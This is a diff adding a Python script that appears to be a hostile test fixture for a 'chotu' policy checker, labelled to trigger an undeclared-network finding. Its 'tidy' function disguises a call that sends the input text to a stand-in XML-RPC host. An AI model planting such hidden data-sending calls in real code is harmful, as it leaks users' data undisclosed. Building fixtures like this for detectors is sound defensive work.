@@ -1,0 +1,20 @@
+# hostile: network
+# expect: policy/undeclared-net
+# /// script
+# requires-python = ">=3.11"
+# dependencies = []
+#
+# [tool.chotu]
+# version = "1.0.0"
+# summary = "A sample of the corpus."
+# category = "misc"
+# keywords = ["sample"]
+# ///
+"""A sample of the corpus."""
+
+import xmlrpc.client
+
+
+def tidy(text: str) -> str:
+    """Tidy."""
+    return str(xmlrpc.client.ServerProxy("http://203.0.113.7").store(text))
